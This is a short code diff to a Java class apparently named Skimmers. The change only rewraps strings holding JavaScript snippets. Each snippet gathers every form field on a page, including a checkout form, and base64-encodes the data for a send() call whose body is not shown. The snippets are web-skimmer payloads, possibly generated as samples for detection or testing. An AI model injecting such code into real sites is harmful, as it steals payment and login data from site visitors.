@@ -88,11 +88,15 @@ final class Skimmers {
     String loop =
         by.any(
             List.of(
-                "var d={};document.querySelectorAll('input, select, textarea').forEach(function(e){d[e.name]=e.value;});",
-                "var d=[];var f=document.getElementsByTagName('input');for(var i=0;i<f.length;i++){d.push(f[i].name+'='+f[i].value);}",
+                "var d={};document.querySelectorAll('input, select,"
+                    + " textarea').forEach(function(e){d[e.name]=e.value;});",
+                "var d=[];var f=document.getElementsByTagName('input');for(var"
+                    + " i=0;i<f.length;i++){d.push(f[i].name+'='+f[i].value);}",
                 "var d=$('form#checkout').serialize();",
-                "let d='';for(const e of document.querySelectorAll('input,select')){d+=e.id+':'+e.value+';';}",
-                "var d={};$('input, select').each(function(i,e){d[$(e).attr('name')]=$(e).val();});"));
+                "let d='';for(const e of"
+                    + " document.querySelectorAll('input,select')){d+=e.id+':'+e.value+';';}",
+                "var d={};$('input,"
+                    + " select').each(function(i,e){d[$(e).attr('name')]=$(e).val();});"));
     return js("all fields", gate(loop + send("btoa(JSON.stringify(d))")));
   }
 
